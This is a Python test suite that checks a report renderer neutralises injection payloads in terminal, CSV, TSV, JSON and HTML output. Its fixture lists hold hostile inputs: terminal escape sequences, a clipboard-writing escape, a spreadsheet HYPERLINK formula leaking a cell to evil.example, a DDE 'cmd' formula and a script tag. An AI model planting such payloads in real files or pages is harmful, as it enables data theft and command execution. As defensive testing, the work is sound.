"""Text that would steer a terminal, a spreadsheet or a parser is data in every format."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from html.parser import HTMLParser

import pytest

from ethnictrack.i18n import N_
from ethnictrack.render import render
from ethnictrack.render.words import View
from ethnictrack.reports.table import (
    Column,
    Document,
    Heading,
    Paragraph,
    Result,
    Row,
    Table,
    Unit,
)
from ethnictrack.values.formula_guard import guarded, unguarded
from ethnictrack.values.money import Dong
from ethnictrack.values.text import composed

TERMINAL = [
    "abc\x1b[2J\x1b[Hxyz",
    "abc\x1b]0;PWNED\x07xyz",
    "abc\x1b]52;c;ZWNobw==\x07xyz",
    "\x1b]8;;http://evil.example\x1b\\Bấm\x1b]8;;\x1b\\",
    "\x1b[31mđỏ\x1b[0m",
    "\x1bPq#0\x1b\\",
    "\x1b[6n",
    "\x1bc",
    "abc\x9b2Jxyz",
    "abc\x9d0;PWNED\x9cxyz",
    "9.000.000\r1",
    "9.000\b\b\b\b\b1",
    "a\x00b",
    "a\tb",
    "một\nhai",
    "một\r\nhai",
    "a\x0bb\x0cc",
    "a\x0e\x0fb",
    "a\x1c\x1d\x1e\x1fb",
    "\x7f\x7f",
    "a\x85b",
    "a\u2028b\u2029c",
    "số \u202e000.9\u202c đồng",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200e\u200f\u061c",
    "An\u200bh\u200c\u200d",
    "\ufeffAn",
    "a\u00adb",
    "\u2060\u180e",
    "\U000e0041\U000e0042",
    "a\ud800b",
    "\udc80\udcff",
    "\ufffe\uffff",
    "e" + "\u0301" * 40,
]
MARKUP = [
    "[red]x[/red]",
    "hoá đơn số [/12]",
    "[link=http://evil.example]Bấm vào đây[/link]",
    "Chợ [Trung tâm] xã A",
    "mục :warning: :100:",
    "[bold",
    "]]][[[",
    "\\[red]\\",
    "[@click=app.bell]x[/]",
    "<script>alert(1)</script>",
    "\"'&%s{}\\\\",
    "{0} {name}",
    "'; drop table",
    "| a | b |",
    "**b** _i_ `c`",
    "0012",
    "1e5",
    "NaN",
    "inf",
    "12/3",
    "\001",
    "---",
    "",
    "   ",
    "漢字かな交じり文" * 20,
    "x" * 3000,
    "ế" * 500,
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0\u200b=1+1",
    "＝1+1",
    " ＋1",
    "'=1+1",
    "=cmd|' /c calc'!A1",
    "-",
    "%=1",
    "|x",
    "\0=1",
]
PAYLOADS = TERMINAL + MARKUP + FORMULAS


def result_of(text: str) -> Result:
    """Put a text wherever data can stand."""
    sentence = N_("It says {text}.").of(text=text)
    columns = (
        Column("code", N_("Code"), Unit.CODE),
        Column("name", N_("Name")),
        Column("said", N_("Said")),
        Column("plan", N_("Plan"), Unit.DONG),
    )
    rows = (Row((text, text, sentence, Dong(-5_000_000)), level=1),)
    table = Table(columns, rows, title=sentence)
    blocks = (Heading(sentence), Paragraph(text), Paragraph(text, bullet=True), table)
    return Result(Document(sentence, blocks, (sentence,), (sentence,)), {"text": text})


def written(text: str, format_name: str, look: View | None = None) -> str:
    """Return a document full of the text in a format."""
    return render(result_of(text), format_name, look or View()).decode("utf-8-sig")


def is_harmless(text: str) -> bool:
    """Tell whether nothing but line feeds in a text is an instruction to a terminal."""
    return not [
        one
        for one in text
        if one != "\n" and unicodedata.category(one) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]


def test_the_corpus_is_large_enough() -> None:
    """Sixty payloads at least."""
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("width", [40, 80, None])
def test_no_instruction_reaches_the_terminal(width: int | None) -> None:
    """Not one byte below the blank but line feeds; in colour only our own colours besides."""
    for text in PAYLOADS:
        plain = written(text, "table", View(width=width))
        coloured = written(text, "table", View(width=width, colour=True))

        assert is_harmless(plain), repr(text)
        assert plain.count("\n") == coloured.count("\n"), repr(text)
        steering = {one for one in coloured if one < " " and one != "\n"}
        assert steering == {"\x1b"}, repr(text)


@pytest.mark.parametrize("format_name", ["plain", "markdown", "json"])
def test_no_instruction_reaches_a_pipe(format_name: str) -> None:
    """What is read with ``cat`` is as harmless as what the screen shows."""
    assert [text for text in PAYLOADS if not is_harmless(written(text, format_name))] == []


def test_markup_is_shown_to_the_letter() -> None:
    """No bracket is eaten, no sign made of a word between colons."""
    for text in MARKUP:
        shown = text.replace("\001", "\\x01").strip()

        assert shown in written(text, "table"), repr(text)
        assert shown in written(text, "plain"), repr(text)


def test_json_gives_text_back_to_the_letter() -> None:
    """Escapes are for terminals; a parser sees the data."""
    read = [json.loads(written(text, "json")) for text in PAYLOADS]

    assert read == [{"text": text} for text in PAYLOADS]


def test_csv_gives_text_back_behind_its_guard() -> None:
    """Apostrophes are all that was added; half a character is escaped."""
    for text in PAYLOADS:
        exact = composed(text)  # of accents more than any letter has, thirty are written
        kept = exact.encode("utf-8", "backslashreplace").decode()
        rows = list(csv.reader(io.StringIO(written(text, "csv"), newline="")))

        assert rows[0] == ["code", "name", "said", "plan"]
        assert [unguarded(cell) for cell in rows[1][:2]] == [kept, kept]
        assert rows[1][3] == "-5000000", repr(text)


def test_tsv_has_one_line_a_row() -> None:
    """Whoever cuts it at tabs and line ends finds four fields twice."""
    lines = {text: written(text, "tsv").splitlines() for text in PAYLOADS}

    fields = {text: [len(line.split("\t")) for line in each] for text, each in lines.items()}
    assert {text: counts for text, counts in fields.items() if counts != [4, 4]} == {}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_a_spreadsheet(text: str) -> None:
    """The guard is an apostrophe before it, and taking it off again gives the text."""
    assert guarded(text)[:1] == "'"
    assert unguarded(guarded(text)) == text
    assert text[:1].isspace() or guarded(text) == f"'{text}"
    for format_name in ("csv", "tsv"):
        assert "\n'" in written(text, format_name).replace('"', "")


@pytest.mark.parametrize("text", ["xã A", "5-3", "a=b", "", "043", "–", "Hà’"])
def test_ordinary_text_gets_no_guard(text: str) -> None:
    """Signs inside a text run nothing."""
    assert text == guarded(text)


@pytest.mark.parametrize("text", ["x" * 5000, "Hỗ trợ phát triển " * 300])
def test_no_line_on_a_pipe_is_cut_or_wrapped(text: str) -> None:
    """However long a text is, its row is one line."""
    assert text.strip() in written(text.strip(), "plain").splitlines()[-3]


class _Seen(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag and what it says."""
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def test_the_page_runs_nothing() -> None:
    """No text becomes a tag, and the page may load nothing from anywhere."""
    plain = _Seen(written("x", "html"))
    loading = {"script", "iframe", "object", "embed", "img", "link", "form", "base"}
    for text in PAYLOADS:
        page = written(text, "html")
        seen = _Seen(page)

        assert seen.tags <= plain.tags | {"br"}, repr(text)
        assert seen.attributes <= plain.attributes, repr(text)
        assert not seen.tags & loading, repr(text)
        assert not [
            each for each in seen.attributes if each.startswith("on") or each in {"href", "src"}
        ], repr(text)
        assert "default-src 'none'" in page, repr(text)
